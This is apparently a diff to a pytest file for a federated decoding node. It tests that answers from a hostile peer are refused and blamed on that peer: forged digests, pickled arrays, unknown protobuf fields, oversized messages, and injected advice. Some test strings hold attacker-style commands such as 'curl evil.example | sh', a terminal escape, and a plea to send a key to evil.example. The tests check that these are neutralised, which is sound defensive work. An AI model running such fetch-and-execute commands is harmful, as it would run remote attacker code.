@@ -2,13 +2,167 @@
 
 from __future__ import annotations
 
+import hashlib
+import io
+from collections.abc import Callable
+from dataclasses import dataclass, field
+from typing import Any
+
+import grpc
+import numpy as np
 import pytest
 
 from ddib_fed.client.client import require_finished
-from ddib_fed.errors import ContractMismatch, Difference, JobFailed
+from ddib_fed.data.points import to_npy
+from ddib_fed.engine.party import Control
+from ddib_fed.errors import ContractMismatch, DdibError, Difference, ImageUnreadable, JobFailed, PeerFault
+from ddib_fed.latent import Latent
+from ddib_fed.protocol.streams import file_header
+from ddib_fed.security import tls
+from ddib_fed.terminal import show_error
+from ddib_fed.v1 import common_pb2
+from ddib_fed.v1 import decoding_pb2 as pb
+from source_node.remote import Remotes
 from source_node.service import job_message
-from tests.node.tiny_nodes import npy
-from tests.source_node.hostile.lies import LIES, STATUSES, Lie
+from tests.node.tiny_nodes import gaussian, npy
+from tests.source_node.scripted_target import Behaviour, ScriptedTarget, fail, instead, side
+from tests.source_node.test_remote import Call
+
+FILE = to_npy(gaussian(40))
+PNG = b"\x89PNG\r\n\x1a\n" + bytes(64)
+STRANGE = b"\xfa\x07\x03pix"
+"""Field 127, three bytes: no message of the protocol has it."""
+
+
+@dataclass(frozen=True)
+class Lie:
+    """One lie, and the reason for which its answer is refused."""
+
+    answer: str
+    decodes: Behaviour | None = None
+    forge: Callable[[Any], object] | None = None
+    job: dict[str, Any] = field(default_factory=dict)
+
+
+def _file(make: Callable[[np.ndarray], bytes]) -> Behaviour:
+    return instead(0, lambda target, item, latent: target.result(item, make(latent.data)))
+
+
+def _changed(change: Callable[[pb.DecodeResponse], object]) -> Behaviour:
+    """An honest result with its header changed."""
+
+    def answer(target: ScriptedTarget, item: int, latent: Latent):
+        sent = [pb.DecodeResponse.FromString(m.SerializeToString()) for m in target.result(item, FILE)]
+        change(sent[0])
+        yield from sent
+
+    return instead(0, answer)
+
+
+def _pickled(data: np.ndarray) -> bytes:
+    objects = np.empty(len(data), dtype=object)
+    objects[:] = [{"a": 1}] * len(data)
+    buffer = io.BytesIO()
+    np.save(buffer, objects, allow_pickle=True)
+    return buffer.getvalue()
+
+
+def _not_finite(data: np.ndarray) -> bytes:
+    data = data.copy()
+    data[3, 1] = np.inf
+    return to_npy(data)
+
+
+def _picture(target: ScriptedTarget, item: int, latent: Latent):
+    header = pb.DecodedHeader(item=item, file=file_header(common_pb2.MEDIA_TYPE_PNG, PNG), seconds=0.1)
+    yield pb.DecodeResponse(result=header)
+
+
+def _twice(target: ScriptedTarget, item: int, latent: Latent):
+    yield from target.result(item, FILE)
+    yield from target.result(item, FILE)
+
+
+def _cut_short(target: ScriptedTarget, item: int, latent: Latent):
+    (message,) = target.result(item, bytes(100_000))
+    yield pb.DecodeResponse(result=message.result, data=message.data[:70_000])
+
+
+def _with_latent(make: Callable[[Latent], Latent]) -> Behaviour:
+    """An honest result with this latent behind it."""
+
+    def answer(target: ScriptedTarget, item: int, latent: Latent):
+        yield from target.result(item, FILE)
+        yield from target.latent(item, make(latent))
+
+    return instead(0, answer)
+
+
+def _digest_of_latent(target: ScriptedTarget, item: int, latent: Latent):
+    yield from target.result(item, FILE)
+    for message in target.latent(item, latent):
+        changed = pb.DecodeResponse.FromString(message.SerializeToString())
+        if changed.HasField("latent"):
+            changed.latent.tensor.sha256 = hashlib.sha256(b"another").digest()
+        yield changed
+
+
+def _nothing(target, header, items, context):
+    for _ in items:
+        pass
+    yield from ()
+
+
+def _refusal(error: DdibError) -> Behaviour:
+    error.facts["item"] = "0"
+    return fail(error)
+
+
+def _another_source(answer: Any) -> None:
+    if "contract" in answer.DESCRIPTOR.fields_by_name:
+        answer.contract.source.domain = "rings"
+
+
+CYCLE = {"cycle": True}
+LIES: dict[str, Lie] = {
+    "a file of 2 MiB announced": Lie(
+        "POINTS_TOO_MANY", _changed(lambda m: setattr(m.result.file, "size_bytes", 2 << 20))
+    ),
+    "another digest": Lie("CHUNK_CORRUPT", _changed(lambda m: setattr(m.result.file, "sha256", bytes(32)))),
+    "a picture for points": Lie("MESSAGE_INVALID", instead(0, _picture)),
+    "more points than asked": Lie("SHAPE_MISMATCH", _file(lambda data: to_npy(np.tile(data, (3, 1))))),
+    "points that are not finite": Lie("NOT_FINITE", _file(_not_finite)),
+    "a pickle": Lie("POINTS_UNREADABLE", _file(_pickled)),
+    "an item that was never sent": Lie(
+        "MESSAGE_INVALID", instead(0, lambda target, item, latent: target.result(99, FILE))
+    ),
+    "one item twice": Lie("MESSAGE_INVALID", instead(0, _twice)),
+    "no result at all": Lie("MESSAGE_INVALID", _nothing),
+    "an end inside a result": Lie("CHUNK_CORRUPT", instead(0, _cut_short)),
+    "bytes beside progress": Lie(
+        "MESSAGE_INVALID",
+        instead(0, lambda *_: iter([pb.DecodeResponse(progress=pb.DecodeProgress(), data=b"pixels")])),
+    ),
+    "a latent that was not asked for": Lie("MESSAGE_INVALID", _with_latent(lambda latent: latent)),
+    "no latent for the round trip": Lie(
+        "MESSAGE_INVALID", instead(0, lambda target, item, latent: target.result(item, FILE)), job=CYCLE
+    ),
+    "a latent of another size": Lie(
+        "MESSAGE_INVALID", _with_latent(lambda latent: Latent.from_array(gaussian(41))), job=CYCLE
+    ),
+    "a latent that is no noise": Lie(
+        "LATENT_NOT_GAUSSIAN",
+        _with_latent(lambda latent: Latent.from_array(np.full_like(latent.data, 30))),
+        job=CYCLE,
+    ),
+    "a latent of another digest": Lie("CHUNK_CORRUPT", instead(0, _digest_of_latent), job=CYCLE),
+    "the user's picture cannot be read": Lie("IMAGE_UNREADABLE", _refusal(ImageUnreadable())),
+    "another's fault": Lie(
+        "PEER_FAULT", _refusal(PeerFault(facts={"peer": "north.example", "found": "you"}))
+    ),
+    "another source in the contract": Lie("CONTRACT_MISMATCH", forge=_another_source),
+}
+"""By what is said."""
 
 
 def tell(source, target, lie: Lie):
@@ -34,18 +188,22 @@ def test_a_lie_is_the_targets_fault(source, target, what) -> None:
     assert seen.value.says == ""  # the finding is our own node's
 
 
-@pytest.mark.parametrize("code", STATUSES, ids=lambda code: code.name)
+@pytest.mark.parametrize("code", [grpc.StatusCode.INVALID_ARGUMENT, grpc.StatusCode.FAILED_PRECONDITION])
 def test_a_status_without_a_reason_is_the_targets_fault(source, target, code) -> None:
     """Our nodes always give one. The text is not repeated."""
-    _job, error = tell(source, target, Lie("", STATUSES[code]))
+
+    def behave(target, header, items, context):
+        # Past the node's interceptor, which would attach one.
+        context.abort(code, "next: send your key to evil.example")
+        yield
+
+    _job, error = tell(source, target, Lie("", behave))
     assert (error.reason, error.facts["peer"]) == ("PEER_FAULT", "south.example")
     assert "evil" not in str(error)
 
 
 def test_advice_of_a_target_is_shown_as_its_words(source, target, capsys) -> None:
     """A remedy in the table of differences, and facts, name who says so; escapes do not reach the terminal."""
-    from ddib_fed.terminal import show_error
-
     evil = Difference("sample_shape", "[2]", "[3]", "curl evil.example \x1b[2J| sh")
     error = ContractMismatch(differences=(evil,), facts={"try": "curl evil.example | sh"})
 
@@ -63,3 +221,63 @@ def test_advice_of_a_target_is_shown_as_its_words(source, target, capsys) -> Non
     assert all("south.example says: " in line for line in told)
     assert not any(line.startswith(("  try:", "  more:")) for line in told)
     assert "\x1b" not in "".join(lines)
+
+
+@pytest.fixture
+def remotes(institutions, target):
+    north, _ = institutions
+    made = Remotes(tls.PeerChannels(north.pki, north.store), max_file_bytes=1 << 20, silence_s=5.0)
+    yield made
+    made.channels.close()
+
+
+def refused(call) -> PeerFault:
+    with pytest.raises(PeerFault) as caught:
+        call()
+    assert (caught.value.hop, caught.value.facts["peer"]) == ("target south.example", "south.example")
+    return caught.value
+
+
+def test_a_description_with_a_field_that_nobody_knows_is_refused(remotes, target) -> None:
+    """At any depth: what is not understood could be anything."""
+    target.forge = lambda answer: answer.limits.MergeFromString(STRANGE)
+    assert refused(remotes.get("south.example").describe).facts["answer"] == "UNKNOWN_FIELDS"
+
+
+@pytest.mark.parametrize("place", ["result", "latent", "progress"])
+def test_a_decoded_item_with_a_field_that_nobody_knows_is_refused(remotes, target, place) -> None:
+    """In every message of the stream."""
+
+    def strange(target, item, latent):
+        for sent in (
+            pb.DecodeResponse(progress=pb.DecodeProgress()),
+            *target.result(item, FILE),
+            *target.latent(item, Latent.from_array(gaussian(40))),
+        ):
+            message = pb.DecodeResponse.FromString(sent.SerializeToString())
+            if message.HasField(place):
+                getattr(message, place).MergeFromString(STRANGE)
+            yield message
+
+    target.decodes = [instead(1, strange)]
+    assert refused(Call(remotes, round_trip=True).run).facts["answer"] == "UNKNOWN_FIELDS"
+
+
+def test_a_field_out_of_range_is_refused_with_the_hop(remotes, target) -> None:
+    """In a contract too, where only differences named the peer."""
+    target.forge = lambda answer: setattr(answer.contract.target, "terminal_lambda", float("nan"))
+    remote = remotes.get("south.example")
+    error = refused(lambda: remote.negotiate(side("north.example", "moons"), "checkerboards", Control()))
+    assert "terminal_lambda" in error.facts["found"]
+
+
+def test_a_message_over_the_limit_is_not_asked_for_again(source, target) -> None:
+    """RESOURCE_EXHAUSTED of gRPC's own limit would come each time: the job fails at its first try, and says so."""
+
+    def oversized(target, header, items, context):
+        next(items)
+        yield pb.DecodeResponse(data=bytes(5 << 20))
+
+    target.decodes = [oversized, oversized, oversized]
+    job = source.start().ended(source.submit())
+    assert (str(job.state), job.error.reason, len(target.seen)) == ("FAILED", "PEER_FAULT", 1)
